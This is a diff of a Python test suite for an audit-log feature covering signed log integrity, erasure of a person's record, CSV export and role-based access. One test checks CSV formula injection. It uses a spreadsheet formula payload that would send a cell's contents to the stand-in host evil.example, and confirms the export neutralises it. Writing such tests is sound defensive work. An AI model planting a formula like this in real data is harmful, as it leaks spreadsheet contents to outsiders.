@@ -22,15 +22,15 @@ from contracts.audit_check import Verdict, Wrong, check, split_lines
 from contracts.audit_heads import SignedHead
 from kit.signing import PublicKeys, SigningKey
 from kit.storage import StorageUnavailable
+from tests.cell.audit.acts import joined
 from tests.cell.audit.tampering import cut_off
 from tests.cell.browser import Answer, Browser
-from tests.cell.world import PASSWORD, Workspace, World
+from tests.cell.world import Workspace, World
 from tests.servers.postgres import Postgres
 
 DOCS = Path(__file__).parents[3] / "docs" / "audit.md"
 KEY = SigningKey(b"\1" * 32)
 KEYS = PublicKeys([KEY.public])
-EVE = {"name": "Eve Erased", "email": "eve@example.com", "role": "agent", "password": PASSWORD}
 
 
 @pytest.fixture(scope="module")
@@ -88,7 +88,7 @@ async def test_a_few_lines_of_python_check_it_as_the_page_for_auditors_says(
     program = DOCS.read_text().split("```python\n")[1].split("```")[0]
 
     def checks() -> subprocess.CompletedProcess[str]:
-        command = [sys.executable, "-c", program, file]
+        command = [sys.executable, "-c", program, str(file)]
         return subprocess.run(command, capture_output=True, text=True, timeout=30, check=False)
 
     last = json.loads(file.read_bytes().splitlines()[-2])["hash"]
@@ -115,7 +115,7 @@ async def test_a_log_of_several_batches_is_whole(
 async def test_an_erased_person_leaves_the_file_valid_and_is_not_in_it(
     signing: World, workspace: Workspace, reader: Browser
 ) -> None:
-    assert (await reader.post(f"{workspace.base}/people", form=EVE)).status == 303
+    await joined(signing, workspace)
     before = await taken(reader, workspace)
     assert before.text.count("Eve Erased") == 1 and checked(before).holds
     [line] = [json.loads(line) for line in before.body.splitlines() if b"Eve Erased" in line]
@@ -194,9 +194,9 @@ async def test_the_table_holds_what_the_filter_shows(signing: World, workspace: 
     assert json.loads(logged["details"]) == {"filters": ["action"], "form": "csv"}
 
 
-async def test_no_name_becomes_a_formula(workspace: Workspace, reader: Browser) -> None:
+async def test_no_name_becomes_a_formula(signing: World, workspace: Workspace, reader: Browser) -> None:
     evil = '=HYPERLINK("https://evil.example/?"&A1,"x")'
-    assert (await reader.post(f"{workspace.base}/people", form={**EVE, "name": evil})).status == 303
+    await joined(signing, workspace, evil)
     [row] = rows(await taken(reader, workspace, "csv", action="person.create"))
     assert row["target_name"] == f"'{evil}"
 
@@ -218,7 +218,9 @@ async def test_taking_the_log_along_is_an_act_and_not_a_get(workspace: Workspace
     assert answer.status == 403
 
 
-async def test_an_agent_takes_nothing(workspace: Workspace, agent: Browser) -> None:
+async def test_an_auditor_takes_it_and_an_agent_does_not(signing: World, workspace: Workspace, agent: Browser) -> None:
+    auditor = await signing.signed_in(workspace, await signing.member(workspace, "auditor"))
+    assert checked(await taken(auditor, workspace)).holds
     for path in ("", "/1", "/head"):
         assert (await agent.get(f"{workspace.base}/audit{path}")).status == 403
     assert (await agent.post(f"{workspace.base}/audit/export", form={"form": "csv"})).status == 403
